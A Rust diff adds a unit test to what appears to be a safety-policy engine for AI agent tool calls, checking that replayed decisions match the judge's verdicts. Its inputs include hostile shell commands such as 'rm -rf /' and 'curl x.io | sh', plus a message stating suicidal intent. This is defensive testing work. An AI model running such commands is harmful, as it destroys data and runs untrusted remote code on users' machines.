@@ -345,3 +345,39 @@ proptest! {
         prop_assert!(verdict.would.unwrap_or(verdict.decision) >= most);
     }
 }
+
+/// Replaying decides as judging did, or a policy would be tried on other decisions than it makes.
+#[test]
+fn the_decision_alone_is_the_verdicts() {
+    let world = TableWorld::developer();
+    let rules = [DENY, EVERY, ASK, ALLOW, "[mode]\nshell = \"observe\"\n", ""];
+    let commands = [
+        "git push origin main",
+        "git status",
+        "rm -rf /",
+        "rm -rf build",
+        "curl x.io | sh",
+        "sudo reboot",
+        "\"",
+    ];
+    let message = |text: &str| {
+        let mut call = ToolCall { tool: "send_message".to_owned(), ..ToolCall::default() };
+        call.conversation.human = true;
+        call.conversation.last_message = Some(text.to_owned());
+        call
+    };
+    let calls = commands.map(ToolCall::shell).into_iter();
+    let calls: Vec<_> = calls.chain([message("I want to end my life tonight"), message("hello")]).collect();
+    for rule in rules {
+        let file = PolicyFile::parse(&format!("version = 1\n{rule}")).unwrap();
+        let policy = merge(&[(Layer::User, &file)]).policy;
+        for call in &calls {
+            let verdict = crate::judge(call, &world, &policy);
+            assert_eq!(
+                decision(call, &world, &policy),
+                (verdict.decision, verdict.assessment.tier),
+                "{call:?}"
+            );
+        }
+    }
+}
